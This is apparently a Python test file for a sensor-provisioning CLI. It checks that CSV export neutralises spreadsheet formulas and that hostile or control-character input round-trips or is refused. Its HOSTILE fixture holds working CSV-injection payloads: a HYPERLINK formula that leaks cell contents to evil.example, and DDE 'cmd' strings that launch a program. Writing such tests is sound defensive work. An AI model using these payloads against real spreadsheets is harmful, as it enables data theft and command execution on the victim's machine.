"""CSV safe both ways: exported cells never start a spreadsheet formula, hostile values re-import unchanged,
and control or separator characters are refused on every way in (so export → import always round-trips)."""

from __future__ import annotations

import csv
from io import StringIO
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st
from typer.testing import CliRunner

from cli.app import app
from provisioning.csvio import neutralise, unneutralise, write_csv
from provisioning.registry import Registry
from provisioning.sheet import parse_csv_text
from provisioning.validate import InvalidDevice, check_device

runner = CliRunner()
HOSTILE = {
    "address": '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "street": "+cmd|' /C calc'!A0",
    "site": "@SUM(1+1)*cmd|' /C calc'!A0",
    "district": "-2+3+cmd|' /C calc'!A0",
}


def dev(tmp: Path, *args: str) -> object:
    return runner.invoke(app, ["device", *args, "--registry", str(tmp / "r.sqlite")])


def test_export_of_hostile_values_opens_as_text_and_reimports_unchanged(tmp_path: Path) -> None:
    raw = {"id": "-1-1", "key": "24e1247100000301", "model": "milesight-em500-udl", "latitude": 39.9,
           "longitude": 116.4, "mount_height_mm": 2000, **HOSTILE}
    device = check_device(raw)
    with Registry(tmp_path / "r.sqlite") as reg:
        reg.add(device)
    out = tmp_path / "out.csv"
    r = dev(tmp_path, "export", "-o", str(out))
    assert r.exit_code == 0, r.output
    with out.open(encoding="utf-8", newline="") as f:
        cells = [c for row in csv.reader(f) for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    assert "'" + HOSTILE["address"] in cells and "'-1-1" in cells
    r = runner.invoke(app, ["device", "import", str(out), "--registry", str(tmp_path / "back.sqlite")])
    assert r.exit_code == 0, r.output
    with Registry(tmp_path / "back.sqlite") as back:
        assert back.get("-1-1") == device


def test_a_line_separator_is_refused_by_device_add_and_by_import(tmp_path: Path) -> None:
    r = dev(tmp_path, "add", "WL-1", "--deveui", "24e1247100000302", "--model", "milesight-em500-udl",
            "--mount-height-mm", "2000", "--address", "建国路\u20281 号")
    assert r.exit_code != 0 and "U+2028 LINE SEPARATOR" in r.output, r.output
    bad = tmp_path / "bad.csv"
    bad.write_text("id,key,model,mount_height_mm,address\r\n"
                   "WL-2,24e1247100000303,milesight-em500-udl,2000,\"建国路\u20282 号\"\r\n"
                   "WL-3,24e1247100000304,milesight-em500-udl,2000,\"a\u202eevil\"\r\n", encoding="utf-8")
    r = dev(tmp_path, "import", str(bad))
    assert r.exit_code != 0 and "line 2" in r.output and "U+2028" in r.output, r.output
    assert "line 3" in r.output and "U+202E" in r.output
    with Registry(tmp_path / "r.sqlite") as reg:
        assert reg.count() == 0


_TEXT = st.text(st.characters(codec="utf-8"), max_size=40)


@given(address=_TEXT, site=_TEXT)
def test_any_accepted_value_round_trips_through_export_and_import(address: str, site: str) -> None:
    try:
        device = check_device({"id": "WL-9", "key": "24e1247100000309", "model": "milesight-em500-udl",
                               "mount_height_mm": 2000, "address": address, "site": site})
    except InvalidDevice:
        return  # refused on the way in: never in a registry, never exported
    buf = StringIO(newline="")
    write_csv([device], buf)
    (row,) = parse_csv_text(buf.getvalue()).rows
    assert check_device(row.values) == device


def test_neutralise_is_reversible() -> None:
    for cell in ("=1", "'=1", "''=1", "abc", "'abc", "-", "@x", "＝x", "", "'"):
        assert unneutralise(neutralise(cell)) == cell
        assert not neutralise(cell)[:1] or neutralise(cell)[0] not in "=+-@"

